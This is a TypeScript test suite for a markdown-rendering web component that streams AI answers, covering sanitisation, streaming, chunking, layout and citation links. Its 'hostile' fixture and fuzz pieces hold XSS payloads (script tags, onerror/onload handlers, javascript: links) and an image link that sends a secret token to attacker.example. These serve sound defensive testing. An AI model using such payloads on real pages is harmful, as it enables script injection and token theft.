import { expect, fixture, html, nextFrame } from '@open-wc/testing';
import fc from 'fast-check';
import { deepElements } from '../../test-support/settle.js';
import { requestedUrls } from '../../test-support/dom.js';
import { itNeeds } from '../../test-support/engines.js';
import { renderWhole } from '../../test-support/markdown-whole.js';
import './define.js';
import { FRAME_CHARS } from './frame-budget.js';
import { GROUP } from './tail.js';
import type { AnswerMarkdown } from './markdown.js';
import { PROBE, streamWork } from './stream.js';

const document_ = `# Findings

Pump **4** runs _below_ design flow; see [the log](https://example.com/log?id=4) and <https://example.com/b>.

- valve \`V-12\` stuck
- replaced on 2 May
  1. ordered
  2. fitted

> Quoted note

\`\`\`sql
select * from flows where site = 'P4';
\`\`\`

| Site | Flow |
|:-----|-----:|
| P4   | 412  |
`;

// Raw HTML as blocks (each up to its blank line) and inline, and links of every scheme.
const hostile = `<script>window.__pwned = 1</script>

<img src="https://attacker.example/pixel.png" onerror="window.__pwned = 2">

[click](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)
![exfil](https://attacker.example/collect?q=secret-token)
<a href="javascript:alert(1)" onclick="window.__pwned=4">html link</a>
<svg onload="window.__pwned=5"></svg><iframe src="https://attacker.example"></iframe>
[ref link][r] [script ref][j]

[r]: https://attacker.example/ref?q=secret
[j]: javascript:window.__pwned=6
`;

async function streamed(text: string, step: number): Promise<AnswerMarkdown> {
  const el = await fixture<AnswerMarkdown>(html`<answer-markdown></answer-markdown>`);
  for (let i = step; i < text.length + step; i += step) {
    el.text = text.slice(0, i);
    await el.updateComplete;
  }
  return el;
}

/**
 * As `streamed`, keeping every element that was ever in the element's shadow root, for however
 * short a time (a step of the stream may render what the next one takes away), and the name of
 * every attribute ever set there.
 */
async function streamedWatched(text: string, step: number) {
  const el = await fixture<AnswerMarkdown>(html`<answer-markdown></answer-markdown>`);
  const ever = new Set<Element>(deepElements(el.shadowRoot!));
  const attributes = new Set<string>();
  const keep = (element: Element) => {
    ever.add(element);
    for (const attribute of element.attributes) attributes.add(attribute.name);
  };
  ever.forEach(keep);
  const take = (records: MutationRecord[]) => {
    for (const record of records) {
      if (record.attributeName) attributes.add(record.attributeName);
      for (const node of record.addedNodes) {
        if (node.nodeType !== Node.ELEMENT_NODE) continue;
        keep(node as Element);
        (node as Element).querySelectorAll('*').forEach(keep);
      }
    }
  };
  const observer = new MutationObserver(take);
  observer.observe(el.shadowRoot!, { childList: true, subtree: true, attributes: true });
  for (let i = step; i < text.length + step; i += step) {
    el.text = text.slice(0, i);
    await el.updateComplete;
  }
  take(observer.takeRecords());
  observer.disconnect();
  return { el, ever: [...ever], attributes: [...attributes] };
}

/**
 * What the reader gets: elements with their attributes, and text (split however the DOM holds
 * it, and a long paragraph's pieces as one paragraph: they are how it is laid out).
 */
function shape(node: Node): string {
  if (node.nodeType === Node.TEXT_NODE) return node.textContent!;
  if (node.nodeType !== Node.ELEMENT_NODE) return '';
  const el = node as Element;
  if (el.matches(':is(p, h3, h4, h5, h6) > .pieces, .pieces > .piece'))
    return [...el.childNodes].map(shape).join('');
  // A paragraph in pieces holds the direction its `dir="auto"` gave it, while it streams (and
  // once complete, when that came from a letter in it).
  const held = el.matches(':has(> .pieces)') && /^(ltr|rtl)$/.test(el.getAttribute('dir') ?? '');
  const attributes = [...el.attributes].map(
    (a) => `${a.name}="${held && a.name === 'dir' ? 'auto' : a.value}"`,
  );
  attributes.sort();
  return `<${[el.localName, ...attributes].join(' ')}>${[...el.childNodes].map(shape).join('')}</${el.localName}>`;
}

const comments = (root: Node) => {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_COMMENT);
  let count = 0;
  while (walker.nextNode()) count++;
  return count;
};

/** What the element shows, block by block, however its blocks are grouped and its text split. */
const shown = (el: AnswerMarkdown) =>
  [...el.shadowRoot!.querySelector('.content')!.children]
    .map((chunk) => [...chunk.childNodes].map(shape).join(''))
    .join('');
/** What the same text shows rendered at once. */
function atOnce(text: string, cites = 0): string {
  // In the page, as the element is: a paragraph in pieces takes the direction it is laid out in.
  const into = document.body.appendChild(document.createElement('div'));
  const blocks = [...renderWhole(text, into, cites).children]
    .map((chunk) => [...chunk.childNodes].map(shape).join(''))
    .join('');
  into.remove();
  return blocks;
}

/**
 * An element fed `text` through `parts` in pieces cut at `cuts`, checked against `atOnce` after
 * each piece (or every `check`-th one; 0: never); with `frames`, a frame after each piece.
 */
async function streamedParts(text: string, cuts: number[], check = 1, frames = false) {
  const parts: string[] = [];
  const el = await fixture<AnswerMarkdown>(
    html`<answer-markdown .parts=${parts} .citations=${2}></answer-markdown>`,
  );
  const work: number[] = [];
  let from = 0;
  for (const to of [...cuts, text.length]) {
    parts.push(text.slice(from, to));
    from = to;
    const before = streamWork.chars;
    el.requestUpdate('parts');
    await el.updateComplete;
    work.push(streamWork.chars - before);
    // As a network brings it, a frame between two pieces (the page lays out what came).
    if (frames) await nextFrame();
    if (check && work.length % check === 0)
      expect(shown(el), `after ${to} of ${text.length}`).to.equal(atOnce(text.slice(0, to), 2));
  }
  return { el, work, parts };
}

/**
 * The time of a test that streams hundreds of kilobytes into one element with a frame between
 * deltas: in WebKit, on a busy 2-core machine, that takes close to mocha's 10 s alone.
 */
const STREAMING_MS = 30_000;

/** How much more of `el`'s text each animation frame shows, until `stop()`. */
function frameGrowth(el: HTMLElement): { stop(): number[] } {
  const lengths: number[] = [];
  let sampling = true;
  const sample = () => {
    lengths.push(el.shadowRoot?.textContent?.length ?? 0);
    if (sampling) requestAnimationFrame(sample);
  };
  requestAnimationFrame(sample);
  return {
    stop() {
      sampling = false;
      return lengths.slice(1).map((length, i) => length - lengths[i]!);
    },
  };
}

describe('answer-markdown', () => {
  it('renders headings, lists, code, quotes, tables and safe links', async () => {
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${document_}></answer-markdown>`,
    );
    const root = el.shadowRoot!;
    expect(root.querySelector('h3')!.textContent).to.equal('Findings');
    expect(root.querySelector('strong')!.textContent).to.equal('4');
    expect(root.querySelectorAll('ul > li')).to.have.length(2);
    expect(root.querySelectorAll('ol > li')).to.have.length(2);
    expect(root.querySelector('pre code')!.textContent).to.equal(
      "select * from flows where site = 'P4';",
    );
    expect(root.querySelector('blockquote')!.textContent!.trim()).to.equal('Quoted note');
    expect([...root.querySelectorAll('td')].map((td) => td.textContent)).to.deep.equal([
      'P4',
      '412',
    ]);
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.href)).to.deep.equal([
      'https://example.com/log?id=4',
      'https://example.com/b',
    ]);
    for (const a of links) {
      expect(a.rel).to.equal('noopener noreferrer');
      expect(a.target).to.equal('_blank');
    }
    await expect(el).to.be.accessible();
  });

  it('shows a task list’s boxes read-only, and raw HTML as the text it is', async () => {
    const text =
      '- [x] pump checked\n- [ ] valve to check\n\n<div class="x">\n  <b>bold?</b>\n</div>\n';
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${text}></answer-markdown>`,
    );
    const root = el.shadowRoot!;
    const boxes = [...root.querySelectorAll<HTMLInputElement>('li.task > input')];
    expect(boxes.map((box) => [box.type, box.checked, box.disabled])).to.deep.equal([
      ['checkbox', true, true],
      ['checkbox', false, true],
    ]);
    boxes[1]!.click();
    expect(boxes[1]!.checked, 'the reader cannot tick it').to.equal(false);
    expect(root.querySelector('b'), 'no element from the HTML').to.equal(null);
    const block = root.querySelector('div.html')!;
    expect(block.textContent).to.equal('<div class="x">\n  <b>bold?</b>\n</div>');
    expect(getComputedStyle(block).whiteSpace, 'its lines kept').to.equal('pre-wrap');
    await expect(el).to.be.accessible();
    // Tags side by side in a paragraph are one run of text, not an element each.
    el.text = 'Tags: ' + '<b>'.repeat(1_000) + ' end';
    await el.updateComplete;
    const spans = [...root.querySelectorAll('span.html')];
    expect(spans.map((span) => span.textContent)).to.deep.equal(['<b>'.repeat(1_000)]);
  });

  it('keeps table cells whole in a narrow column: the table scrolls instead', async () => {
    const table =
      '| Station | Flow | Pressure | Status | Inspector |\n|---|---|---|---|---|\n| Pump4 | 36.0 | 51.2 | stuck | Villanueva |\n';
    const box = await fixture<HTMLElement>(
      html`<div style="width: 280px"><answer-markdown .text=${table}></answer-markdown></div>`,
    );
    const el = box.firstElementChild as AnswerMarkdown;
    await el.updateComplete;
    const root = el.shadowRoot!;
    const lineHeight = parseFloat(getComputedStyle(root.querySelector('td')!).lineHeight);
    for (const cell of root.querySelectorAll('th, td')) {
      const range = document.createRange();
      range.selectNodeContents(cell);
      expect(range.getBoundingClientRect().height, `"${cell.textContent}" on one line`).to.be.below(
        lineHeight * 1.5,
      );
    }
    const scroller = root.querySelector('.table')!;
    expect(scroller.scrollWidth, 'the table scrolls in its box').to.be.greaterThan(
      scroller.clientWidth,
    );
    expect(el.getBoundingClientRect().width).to.be.at.most(280);
  });

  it('streamed in small deltas, it shows exactly what the whole text shows', async () => {
    const whole = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${document_}></answer-markdown>`,
    );
    for (const step of [1, 7, 64]) {
      const el = await streamed(document_, step);
      expect(el.shadowRoot!.querySelector('.content')!.textContent).to.equal(
        whole.shadowRoot!.querySelector('.content')!.textContent,
      );
      expect(el.shadowRoot!.querySelectorAll('*').length).to.equal(
        whole.shadowRoot!.querySelectorAll('*').length +
          el.shadowRoot!.querySelectorAll('.content > div').length -
          whole.shadowRoot!.querySelectorAll('.content > div').length,
      );
    }
  });

  it('goes on where it was when a finished text’s pieces are joined into one, rendering nothing twice', async () => {
    const whole = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${document_}></answer-markdown>`,
    );
    const pieces = document_.match(/[\s\S]{1,5}/g)!;
    // Read so far: many pieces, or just the first one.
    for (const read of [40, 1]) {
      const parts = pieces.slice(0, read);
      const el = await fixture<AnswerMarkdown>(
        html`<answer-markdown .parts=${parts}></answer-markdown>`,
      );
      const firstBlock = el.shadowRoot!.querySelector('.content > div');
      // The rest arrives and the text ends in the same frame: the pieces are joined before the element reads them.
      parts.push(...pieces.slice(read));
      parts.splice(0, parts.length, parts.join(''));
      el.requestUpdate('parts');
      await el.updateComplete;
      expect(el.shadowRoot!.querySelector('.content')!.textContent, `after ${read}`).to.equal(
        whole.shadowRoot!.querySelector('.content')!.textContent,
      );
      // Blocks settled before the join are not rendered again (with one piece read, nothing had settled).
      if (read > 1)
        expect(
          el.shadowRoot!.querySelector('.content > div') === firstBlock,
          'the settled blocks stay',
        ).to.equal(true);
    }
  });

  it('a complete text shows the same DOM as the text streaming, as plain nodes', async () => {
    const streaming = await streamed(document_, 7);
    const complete = await fixture<AnswerMarkdown>(
      html`<answer-markdown complete .text=${document_}></answer-markdown>`,
    );
    const content = (el: AnswerMarkdown) => el.shadowRoot!.querySelector('.content')!;
    const blocks = (el: AnswerMarkdown) =>
      [...content(el).children].map((chunk) => [...chunk.childNodes].map(shape).join('')).join('');
    expect(blocks(complete)).to.equal(blocks(streaming));
    expect(comments(content(complete)), 'no template markers left').to.equal(0);
    await expect(complete).to.be.accessible();
  });

  it('when the text completes, what was shown stays and the unfinished end becomes final', async () => {
    const parts = document_.match(/[\s\S]{1,9}/g)!;
    const live = parts.slice(0, 30);
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .parts=${live}></answer-markdown>`,
    );
    const firstBlock = el.shadowRoot!.querySelector('.content > div')!;
    const whole = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${document_}></answer-markdown>`,
    );
    // The rest arrives and the text ends, its pieces joined in the same array (as the conversation does).
    live.push(...parts.slice(30));
    live.splice(0, live.length, live.join(''));
    el.requestUpdate('parts');
    el.complete = true;
    await el.updateComplete;
    const content = el.shadowRoot!.querySelector('.content')!;
    expect(content.textContent).to.equal(whole.shadowRoot!.querySelector('.content')!.textContent);
    expect(content.firstElementChild, 'nothing rendered twice').to.equal(firstBlock);
    expect(el.shadowRoot!.querySelectorAll('h3, li, pre, blockquote, td').length).to.equal(
      whole.shadowRoot!.querySelectorAll('h3, li, pre, blockquote, td').length,
    );
    expect(comments(content)).to.equal(0);
  });

  it('a complete text still links its citations, and renders again when they change', async () => {
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown complete .citations=${1} .text=${'Grew [1] and [2].'}></answer-markdown>`,
    );
    const cites = () =>
      [...el.shadowRoot!.querySelectorAll('a.cite')].map(
        (a) => `${a.getAttribute('href')} ${a.getAttribute('aria-label')}`,
      );
    expect(cites()).to.deep.equal(['#source-1 Source 1']);
    el.citations = 2;
    await el.updateComplete;
    expect(cites()).to.deep.equal(['#source-1 Source 1', '#source-2 Source 2']);
    expect(el.shadowRoot!.querySelector('.content')!.textContent).to.equal('Grew [1] and [2].');
  });

  it('a complete text that is extended after all shows the whole new text', async () => {
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown complete .text=${'A paragraph'}></answer-markdown>`,
    );
    el.text = 'A paragraph that goes on.\n\n- and a list';
    await el.updateComplete;
    expect(el.shadowRoot!.querySelector('.content')!.textContent).to.equal(
      'A paragraph that goes on.and a list',
    );
    expect([...el.shadowRoot!.querySelectorAll('li')].map((e) => e.textContent)).to.deep.equal([
      'and a list',
    ]);
  });

  it('starts over when the text is replaced rather than extended', async () => {
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${'First paragraph.\n\nSecond.'}></answer-markdown>`,
    );
    el.text = 'Other text.';
    await el.updateComplete;
    expect(el.shadowRoot!.querySelector('.content')!.textContent!.trim()).to.equal('Other text.');
  });

  it('links [N] up to `citations` to source N, and nothing else', async () => {
    const text =
      'Grew [1], fell [2] and [3].\n\n- `[1]` and [see [2]](https://example.com/)\n\n```\n[1]\n```\n';
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .text=${text}></answer-markdown>`,
    );
    const cites = () =>
      [...el.shadowRoot!.querySelectorAll('a.cite')].map(
        (a) => `${a.getAttribute('href')} ${a.getAttribute('aria-label')} ${a.textContent}`,
      );
    expect(cites(), 'none by default').to.deep.equal([]);
    el.citations = 2;
    await el.updateComplete;
    expect(cites()).to.deep.equal(['#source-1 Source 1 [1]', '#source-2 Source 2 [2]']);
    expect(el.shadowRoot!.querySelector('.content')!.textContent)
      .to.include('and [3].')
      .and.include('see [2]');
    await expect(el).to.be.accessible();
  });

  it('renders settled blocks once while `citations` stays, and all again when it changes', async () => {
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .citations=${2} .text=${'First [1].\n\nSecond [2].\n\n'}></answer-markdown>`,
    );
    const first = el.shadowRoot!.querySelector('.content > div')!;
    el.text += 'Third [2]';
    await el.updateComplete;
    expect(el.shadowRoot!.querySelector('.content > div')).to.equal(first);
    expect(el.shadowRoot!.querySelectorAll('a.cite')).to.have.length(3);
    el.citations = 1;
    await el.updateComplete;
    expect(el.shadowRoot!.querySelector('.content > div')).not.to.equal(first);
    expect([...el.shadowRoot!.querySelectorAll('a.cite')].map((a) => a.textContent)).to.deep.equal([
      '[1]',
    ]);
    expect([...el.shadowRoot!.querySelectorAll('p')].map((p) => p.textContent)).to.deep.equal([
      'First [1].',
      'Second [2].',
      'Third [2]',
    ]);
  });

  it('renders hostile markdown inert: no script, no handler, no image, no request', async () => {
    const before = requestedUrls().length;
    const { el, ever, attributes } = await streamedWatched(hostile, 5);
    // Nothing that runs or fetches was ever rendered, not even for one step of the stream.
    expect(
      ever.filter((e) =>
        ['script', 'img', 'iframe', 'svg', 'object', 'embed'].includes(e.localName),
      ),
    ).to.deep.equal([]);
    expect(attributes.filter((name) => name.startsWith('on'))).to.deep.equal([]);
    const elements = deepElements(el.shadowRoot!);
    expect(
      elements.filter((e) =>
        ['script', 'img', 'iframe', 'svg', 'object', 'embed'].includes(e.localName),
      ),
    ).to.deep.equal([]);
    expect(
      elements.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on'))),
    ).to.deep.equal([]);
    const hrefs = elements
      .filter((e): e is HTMLAnchorElement => e.localName === 'a')
      .map((a) => a.href);
    expect(hrefs.every((href) => href.startsWith('https:'))).to.equal(true);
    // Only http(s) URLs become links (an image is a link to it); none is ever fetched.
    expect(hrefs).to.include('https://attacker.example/collect?q=secret-token');
    expect(hrefs).to.include('https://attacker.example/ref?q=secret');
    expect(hrefs.some((href) => /javascript|data:|vbscript/.test(href))).to.equal(false);
    expect((window as { __pwned?: number }).__pwned).to.equal(undefined);
    expect(
      requestedUrls()
        .slice(before)
        .filter((url) => url.includes('attacker')),
    ).to.deep.equal([]);
    const text = el.shadowRoot!.textContent!;
    expect(text)
      .to.include('<script>')
      .and.include('onerror=')
      .and.include('[Image: exfil]')
      .and.include('script ref');
  });

  it('renders any markdown with only the elements and attributes it allows', async () => {
    const ELEMENTS = new Set(
      ['div', 'p', 'span', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre']
        .concat(['code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'strong', 'em'])
        .concat(['del', 'br', 'hr', 'input']),
    );
    const ATTRIBUTES = new Set(
      ['class', 'part', 'dir', 'href', 'target', 'rel', 'title', 'start', 'tabindex', 'role']
        .concat(['data-lang', 'aria-label', 'aria-level', 'scope', 'type', 'disabled'])
        .concat(['checked']),
    );
    const pieces = [
      ...['word ', '\n', '\n\n', '*', '**', '`', '- ', '1. ', '> ', '# ', '| a | b |\n|---|---|\n'],
      ...['- [ ] ', '- [x] ', '~~', '[1]', '<script>x()</script>', '<img src=x onerror=y()>'],
      ...['<a href="javascript:y()" onclick="y()">a</a>', '[l](javascript:y())', '![i](/p.png)'],
      ...['[r]\n\n[r]: data:text/html,x\n', '<https://e.com/a>', 'www.e.com', '&lt;b&gt;'],
      ...['<svg onload=y()>', '<style>*{}</style>', '```\n', '    code\n', '<!-- c -->'],
    ];
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), async (tokens) => {
        const { ever, attributes } = await streamedWatched(tokens.join(''), 3);
        const names = ever.map((e) => e.localName);
        expect(
          names.filter((name) => !ELEMENTS.has(name)),
          'elements',
        ).to.deep.equal([]);
        expect(
          attributes.filter((name) => !ATTRIBUTES.has(name)),
          'attributes',
        ).to.deep.equal([]);
        for (const a of ever.filter((e): e is HTMLAnchorElement => e.localName === 'a'))
          expect(a.getAttribute('href') ?? '').to.match(/^(https?:\/\/|#source-\d+$)/);
      }),
      { numRuns: 40 },
    );
  });

  const fence = (lines: number) =>
    '```ts\n' +
    Array.from({ length: lines }, (_, i) => `const v${i} = f(${i}); // \`x\``).join('\n');
  const paragraph = (words: number) =>
    Array.from({ length: words }, (_, i) =>
      i % 97 === 0
        ? `[link ${i}](https://example.com/${i})`
        : i % 31 === 0
          ? `**strong ${i}**`
          : i % 13 === 0
            ? `\`code\` [${(i % 2) + 1}]`
            : i % 50 === 0
              ? 'break  \n'
              : `word${i}`,
    ).join(' ');

  it('streams a code fence in many deltas as the same DOM as the whole text at once', async () => {
    const text = fence(3_000) + '\n``';
    const cuts = [1, 3, 4, 5, 6, 7, 50, 51, 52, 4_000, 9_000, 9_001, 60_000];
    for (let at = 60_000; at < text.length; at += 997) cuts.push(at);
    const { el, parts } = await streamedParts(text, cuts);
    const code = () => el.shadowRoot!.querySelector('pre code')!.textContent!;
    expect(code().endsWith('\n``'), 'a last line that does not close the fence is code').to.equal(
      true,
    );
    // The last line closes the fence, then more text comes after it.
    let whole = text;
    for (const more of ['`', '  \n', 'after']) {
      parts.push(more);
      whole += more;
      el.requestUpdate('parts');
      await el.updateComplete;
      expect(shown(el), more).to.equal(atOnce(whole, 2));
      expect(code().endsWith('// `x`'), 'the closing line is not code').to.equal(true);
    }
    expect(el.shadowRoot!.querySelectorAll('pre')).to.have.length(1);
    expect([...el.shadowRoot!.querySelectorAll('p')].map((p) => p.textContent)).to.deep.equal([
      'after',
    ]);
  });

  it('streams a long fence in chunks of lines, a character at a time at their ends', async () => {
    // Lines of 24 characters: a chunk ends with the line that reaches 8,192 characters.
    const lines = Array.from(
      { length: 1_100 },
      (_, i) => `let v${String(i).padStart(3, '0')} = f(); // line`,
    );
    // Two empty lines begin the second chunk.
    lines.splice(342, 0, '', '');
    const text = '```js\n' + lines.join('\n') + '\n``` \nafter';
    const cuts: number[] = [];
    for (let at = 1; at < text.length; at += 173) cuts.push(at);
    for (const end of [8_192, 16_384].map((n) => text.indexOf('\n', n + 6 - 1))) {
      expect(end).to.be.above(0);
      for (let at = end - 40; at < end + 40; at++) cuts.push(at);
    }
    for (let at = text.length - 20; at < text.length; at++) cuts.push(at);
    const { el } = await streamedParts(
      text,
      [...new Set(cuts)].sort((a, b) => a - b),
    );
    const chunks = el.shadowRoot!.querySelectorAll('pre code > span');
    expect(chunks.length, 'chunks').to.equal(4);
    expect(chunks[1]!.textContent!.startsWith('\n\nlet v342')).to.equal(true);
    expect(el.shadowRoot!.querySelector('pre code')!.textContent).to.equal(lines.join('\n'));
    for (const chunk of [...chunks].slice(0, -1)) {
      expect(chunk.textContent!.length).to.be.within(8_192, 8_192 + 40);
      expect(chunk.textContent!.endsWith('\n')).to.equal(true);
    }
  });

  it('ends a chunk with a line break at its 8,192nd character, and not before one', async () => {
    // A line of 7 characters, then lines of 24 with their line break: the 342nd ends at 8,191.
    const lines = [
      'let a=1',
      ...Array.from({ length: 341 }, (_, i) => `let w${i + 1000} = g(); // it!`),
    ];
    const body = lines.join('\n');
    expect(body.length).to.equal(8_191);
    for (const [text, chunks] of [
      // The fence closes right there: no line break ends the first chunk, it is the only one.
      ['```\n' + body + '\n```\nafter', 0],
      // A line follows: the line break is the first chunk's last character.
      ['```\n' + body + '\nlet last = 1;\n', 2],
    ] as const) {
      const end = 4 + body.length;
      const cuts = Array.from({ length: 30 }, (_, i) => end - 10 + i).filter(
        (n) => n < text.length,
      );
      const { el } = await streamedParts(text, [1, 4, 5_000, ...cuts]);
      const spans = el.shadowRoot!.querySelectorAll('pre code > span');
      expect(spans.length, text.slice(-12)).to.equal(chunks);
      if (chunks) expect(spans[0]!.textContent!.length).to.equal(8_192);
    }
  });

  it('streams a long paragraph in many deltas as the same DOM as the text at once', async () => {
    const text = paragraph(12_000);
    const cuts: number[] = [];
    for (let at = 1, step = 1; at < text.length; at += step, step = (step * 7 + 3) % 4_099)
      cuts.push(at);
    const { el } = await streamedParts(text, cuts, 9);
    expect(shown(el)).to.equal(atOnce(text, 2));
    expect(el.shadowRoot!.querySelectorAll('p')).to.have.length(1);
    expect(el.shadowRoot!.querySelectorAll('a[href^="https:"]').length).to.be.greaterThan(100);
    // Complete, it keeps what it showed, as plain nodes.
    el.complete = true;
    await el.updateComplete;
    expect(shown(el)).to.equal(atOnce(text, 2));
    expect(comments(el.shadowRoot!.querySelector('.content')!)).to.equal(0);
  });

  /** The same text rendered complete at once, beside the streamed one. */
  const complete = (text: string) =>
    fixture<AnswerMarkdown>(
      html`<answer-markdown complete .citations=${2} .text=${text}></answer-markdown>`,
    );
  /** `text` streamed at `cuts` and complete, its first paragraph, and that of the text at once. */
  const paragraphs = async (text: string, cuts: number[]) => {
    const { el } = await streamedParts(text, cuts, 0, true);
    el.complete = true;
    await el.updateComplete;
    const once = await complete(text);
    const [p, whole] = [el, once].map((e) => e.shadowRoot!.querySelector('p')!) as [
      HTMLParagraphElement,
      HTMLParagraphElement,
    ];
    return { el, p, whole };
  };
  /** What copying all of an element's text gives. */
  const copied = async (node: Node) => {
    const range = document.createRange();
    range.selectNodeContents(node);
    const selection = getSelection()!;
    selection.removeAllRanges();
    selection.addRange(range);
    // As a reader copies: a frame after selecting (what is selected is rendered by then).
    await nextFrame();
    await nextFrame();
    const text = selection.toString();
    selection.removeAllRanges();
    return text;
  };

  /** `count` sentences of one paragraph, each with emphasis, a link, code and a citation. */
  const sentences = (count: number) =>
    Array.from(
      { length: count },
      (_, i) =>
        `Pump **${i}** ran *below* flow, see [log ${i}](https://example.com/${i}) ` +
        `and \`v-${i}\` [1].`,
    ).join(' ');

  /** The white space after a piece: before the next one, or after its group, the next group. */
  const whiteAfter = (piece: Element) =>
    (piece.nextSibling ?? piece.parentElement!.nextSibling)?.textContent;

  itNeeds(
    'shadow-selection',
    'copies a paragraph or a word streamed in pieces as it copies at once',
    async () => {
      for (const text of [sentences(300), 'PumpStation4Valve\u{1F527}Flow'.repeat(1_000)]) {
        const cuts: number[] = [];
        for (let at = 700; at < text.length; at += 700) cuts.push(at);
        const { el } = await streamedParts(text, cuts, 0);
        el.complete = true;
        await el.updateComplete;
        const p = el.shadowRoot!.querySelector('p')!;
        expect(p.querySelectorAll('.piece').length, 'in pieces').to.be.above(1);
        const whole = (await complete(text)).shadowRoot!.querySelector('p')!;
        expect(await copied(whole), 'at once, the text shown').to.equal(whole.textContent);
        expect(await copied(p), 'in pieces, the same').to.equal(await copied(whole));
      }
    },
  );

  it('streams a long paragraph in pieces that read and lay out as one', async function () {
    this.timeout(STREAMING_MS);
    const text = sentences(1_500);
    // A frame after each cut: about five cuts to a piece, not nineteen, or the frames alone take seconds.
    const cuts: number[] = [];
    for (let at = 2_800; at < text.length; at += 2_800) cuts.push(at);
    const { el, p, whole } = await paragraphs(text, cuts);
    const pieces = [...p!.querySelectorAll('.piece')];
    expect(pieces.length, 'about one piece per 8 KB of text').to.be.within(
      p!.textContent!.length / 12_000,
      40,
    );
    expect(shown(el)).to.equal(atOnce(text, 2));
    expect(p!.textContent).to.equal(whole!.textContent);
    // Between two pieces, the white space at a sentence's end; inside them, whole links and
    // emphasis (the same elements, in order, as the paragraph at once).
    for (const piece of pieces.slice(0, -1)) {
      expect(whiteAfter(piece)).to.equal(' ');
      expect(piece.textContent!.endsWith('[1].'), piece.textContent!.slice(-40)).to.equal(true);
    }
    const parts = (e: Element) => [...e.querySelectorAll('a, strong, em, code')].map(shape);
    expect(parts(p!)).to.deep.equal(parts(whole!));
    // In pieces, the paragraph takes about the height it takes at once, before the reader scrolls
    // through it and after.
    const line = Number.parseFloat(getComputedStyle(p!).lineHeight) || 24;
    const estimated = p!.getBoundingClientRect().height;
    expect(estimated, 'about as tall before it is seen').to.be.closeTo(
      whole!.getBoundingClientRect().height,
      whole!.getBoundingClientRect().height / 10,
    );
    // The reader scrolls to each piece: it is laid out.
    for (const piece of pieces) {
      piece.scrollIntoView();
      await nextFrame();
      await nextFrame();
    }
    // Laid out as one paragraph: each piece right under the one before, the paragraph at most a
    // line taller per piece than the one at once.
    const boxes = pieces.map((piece) => piece.getBoundingClientRect());
    for (let i = 1; i < boxes.length; i++)
      expect(boxes[i]!.top - boxes[i - 1]!.bottom).to.be.closeTo(0, 0.5);
    const height = p!.getBoundingClientRect().height - whole!.getBoundingClientRect().height;
    expect(height).to.be.within(0, pieces.length * line);
  });

  it('keeps a very long paragraph’s pieces in groups that lay out as one', async function () {
    this.timeout(STREAMING_MS);
    const text = 'The pump at station four ran below its design flow for most of the week. '.repeat(
      6_000,
    );
    const cuts: number[] = [];
    for (let at = 6_000; at < text.length; at += 6_000) cuts.push(at);
    const { el, p, whole } = await paragraphs(text, cuts);
    expect(shown(el)).to.equal(atOnce(text));
    const groups = [...p.children];
    expect(groups.length, 'a group per GROUP pieces').to.equal(
      Math.ceil(p.querySelectorAll('.piece').length / GROUP),
    );
    expect(groups.length, 'about one group per 256 KB').to.be.above(1);
    const pieces = [...p.querySelectorAll('.piece')];
    // Out of view, what text no longer goes to is not laid out: every group but the last (no
    // piece on its own, each box so kept making every style pass cost more).
    expect(
      pieces.filter((piece) => piece.classList.contains('past')),
      'past pieces',
    ).to.deep.equal([]);
    for (const [i, group] of groups.entries()) {
      expect(group.classList.contains('pieces')).to.equal(true);
      expect(group.classList.contains('past'), `group ${i} past`).to.equal(i < groups.length - 1);
      expect(group.children.length).to.be.at.most(GROUP);
      if (i < groups.length - 1) {
        expect(group.children.length, 'full').to.equal(GROUP);
        expect(group.nextSibling!.textContent, 'the white space between').to.equal(' ');
      }
    }
    expect(p.textContent).to.equal(whole.textContent);
    // Seen one by one, the pieces lie right under one another, across groups as within them.
    for (const piece of pieces) {
      piece.scrollIntoView();
      await nextFrame();
    }
    const boxes = pieces.map((piece) => piece.getBoundingClientRect());
    for (let i = 1; i < boxes.length; i++)
      expect(boxes[i]!.top - boxes[i - 1]!.bottom, `piece ${i}`).to.be.closeTo(0, 0.5);
  });

  it('gives a long paragraph streamed in pieces the direction its whole text gives at once', async function () {
    this.timeout(STREAMING_MS);
    const arabic = 'تعمل المضخة في المحطة الرابعة دون التدفق المصمم. ';
    const texts = {
      'right to left from its first words': arabic.repeat(400),
      // Its first piece has no letter, so no direction of its own: the Arabic after it decides.
      'right to left after 19,000 characters of figures':
        '12.5, 13.75. '.repeat(1_500) + arabic.repeat(300),
      'left to right': sentences(600),
    };
    for (const [name, text] of Object.entries(texts)) {
      // A frame after each of some 70 cuts in all: 220 outran the test's time in WebKit.
      const cuts: number[] = [];
      for (let at = 1_500; at < text.length; at += 1_500) cuts.push(at);
      const { p, whole } = await paragraphs(text, cuts);
      expect(p.querySelectorAll('.piece').length, name).to.be.above(1);
      expect(getComputedStyle(p).direction, name).to.equal(getComputedStyle(whole).direction);
      expect(getComputedStyle(whole).direction, name).to.equal(
        name.startsWith('left') ? 'ltr' : 'rtl',
      );
    }
  });

  it('renders text that comes too fast a frame’s budget at a time, and catches up', async function () {
    this.timeout(STREAMING_MS);
    const text = sentences(2_000); // about 180,000 characters: some 45 frames’ budgets
    const parts: string[] = [];
    const el = await fixture<AnswerMarkdown>(
      html`<answer-markdown .parts=${parts} .citations=${2}></answer-markdown>`,
    );
    const frames = frameGrowth(el);
    // All of it in the same task, as many network chunks between two frames.
    for (let at = 0; at < text.length; at += 16_384) parts.push(text.slice(at, at + 16_384));
    el.parts = parts;
    await el.updateComplete;
    const growth = frames.stop();
